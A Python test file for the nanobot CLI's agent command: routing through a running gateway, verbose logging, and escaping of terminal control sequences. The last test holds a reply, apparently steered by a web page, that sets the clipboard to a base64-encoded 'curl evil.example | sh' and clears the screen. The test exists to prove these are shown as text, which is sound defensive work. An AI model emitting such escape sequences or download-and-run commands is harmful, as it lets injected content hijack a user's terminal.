"""``nanobot agent -m`` goes through the running gateway whichever way its config is named
(``NANOBOT_CONFIG``, ``--config``, the home's file), ``-v`` only adds a line, and where it
runs in this process ``-v`` says why."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path

from tests import cli_zygote
from tests.fakes.openai_server import FakeOpenAI, reply
from tests.helpers import nanobot_process
from tests.test_cli import nanobot


def write(path: Path, workspace: Path, llm: FakeOpenAI, model: str) -> Path:
    path.write_text(json.dumps({
        "agents": {"defaults": {"workspace": str(workspace), "model": model, "executionMode": "tools"}},
        "providers": {"openai": {"apiKey": "k", "apiBase": llm.base_url}},
        "gateway": {"heartbeat": {"enabled": False}}}))
    return path


async def test_the_same_config_by_any_route_goes_through_the_gateway(home: Path, workspace: Path, tmp_path: Path,
                                                                   llm: FakeOpenAI) -> None:
    shared = write(tmp_path / "etc-nanobot.json", workspace, llm, "from the gateway")  # as deploy/ names it
    other = write(tmp_path / "other.json", workspace, llm, "in-process")
    llm.fallback = lambda body: reply(body["model"])  # says which config asked
    env = {"NANOBOT_CONFIG": str(shared)}
    async with nanobot_process("gateway", home=home, env=env):
        for _ in range(200):
            if (home / "api.sock").exists():
                break
            await asyncio.sleep(0.05)
        code, out, err = await nanobot("agent", "-m", "hi", home=home, env=env)
        assert (code, out) == (0, "from the gateway\n"), err
        code, out, err = await nanobot("-v", "agent", "-m", "hi", home=home, env=env)
        assert (code, out) == (0, "from the gateway\n") and "through the gateway running on" in err, err
        code, out, err = await nanobot("--config", str(shared), "agent", "-m", "hi", home=home)
        assert (code, out) == (0, "from the gateway\n"), err
        code, out, err = await nanobot("-v", "--config", str(other), "agent", "-m", "hi", home=home)
        assert code == 0 and out.strip() == "in-process", err
        assert f"running in this process: the gateway on {home} runs with another config file ({shared}" in err
        code, out, err = await nanobot("-v", "agent", "--local", "-m", "hi", home=home, env=env)
        assert code == 0 and "running in this process: --local" in err


async def test_with_v_a_log_line_never_cuts_the_reply(home: Path, workspace: Path, llm: FakeOpenAI) -> None:
    """On a terminal stdout and stderr share the screen: the turn's log line waits for the end of
    the streamed reply's line."""
    import os

    write(home / "config.json", workspace, llm, "m")
    llm.fallback = lambda body: reply("the answer comes in pieces")
    proc = await cli_zygote.start(["-v", "agent", "-m", "hi"], {**os.environ, "NANOBOT_HOME": str(home)},
                                  stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)
    out, _ = await asyncio.wait_for(proc.communicate(), 60)
    lines = out.decode().splitlines()
    assert "the answer comes in pieces" in lines, lines
    assert any("outcome=ok" in line for line in lines)


async def test_a_reply_reaches_the_terminal_shown_never_obeyed(home: Path, workspace: Path, tmp_path: Path,
                                                               llm: FakeOpenAI) -> None:
    """A reply a web page steered may carry commands to the terminal (set the clipboard to a
    command, clear the screen, overwrite the line): the owner's terminal shows them as text, in
    this process and through the running gateway."""
    steered = "done \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\r\x9b31m"
    llm.fallback = lambda body: reply(steered)
    env = {"NANOBOT_CONFIG": str(write(tmp_path / "config.json", workspace, llm, "m"))}
    shown = "done \\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x1b[2J\\x0d\\x9b31m\n"
    assert await nanobot("agent", "-m", "hi", home=home, env=env) == (0, shown, "")
    async with nanobot_process("gateway", home=home, env=env):
        for _ in range(200):
            if (home / "api.sock").exists():
                break
            await asyncio.sleep(0.05)
        code, out, err = await nanobot("-v", "agent", "-m", "hi", home=home, env=env)
        assert (code, out) == (0, shown) and "through the gateway running on" in err, err
